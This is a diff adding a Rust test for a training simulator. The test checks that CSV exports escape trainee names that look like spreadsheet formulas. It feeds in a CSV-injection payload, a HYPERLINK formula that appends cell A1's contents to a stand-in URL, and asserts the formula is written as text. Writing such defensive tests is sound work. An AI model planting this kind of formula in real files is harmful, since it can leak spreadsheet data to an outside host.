@@ -1069,6 +1069,36 @@ fn an_attempt_exported_in_a_newer_format_imports_as_the_same_attempt() {
     std::fs::remove_dir_all(&root).ok();
 }
 
+/// A name typed at a station reaches the instructor's spreadsheet through the CSV. One that
+/// starts like a formula (`=`, `+`, `-`, `@`) is written as text, so that opening the file
+/// cannot run it (OWASP's advice on CSV injection).
+#[test]
+fn a_name_that_looks_like_a_formula_is_text_in_the_csv() {
+    let root = std::env::temp_dir().join(format!("marrowsim-csvinj-{}", std::process::id()));
+    std::fs::remove_dir_all(&root).ok();
+    let d = root.join("data");
+    let d = d.to_str().unwrap();
+    let name = "=HYPERLINK(\"http://example.com/?\"&A1,\"open\")";
+    let golden = "tests/golden/expert_psis_to_asis.ron";
+    let (out, err) = text(&run(&["import", golden, "--data", d, "--trainee", name]));
+    assert!(out.contains("1 recorded"), "{out}{err}");
+    for args in [
+        vec!["history", "--data", d, "--format", "csv"],
+        vec!["report", "--data", d, "--format", "csv"],
+    ] {
+        let o = run(&args);
+        let (csv, err) = text(&o);
+        assert!(o.status.success(), "{args:?}: {err}");
+        let row = csv.lines().find(|l| l.contains("HYPERLINK")).unwrap();
+        assert!(
+            row.contains("\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"open\"\")\""),
+            "{args:?}: {row}"
+        );
+        assert!(!row.split(',').any(|f| f.starts_with('=')), "{row}");
+    }
+    std::fs::remove_dir_all(&root).ok();
+}
+
 /// `history --export-all` names its files from the record's hashes; a row whose hash is not
 /// one (a hand-edited record: a character of two bytes, a path) is still written, inside the
 /// folder, instead of panicking or writing elsewhere.
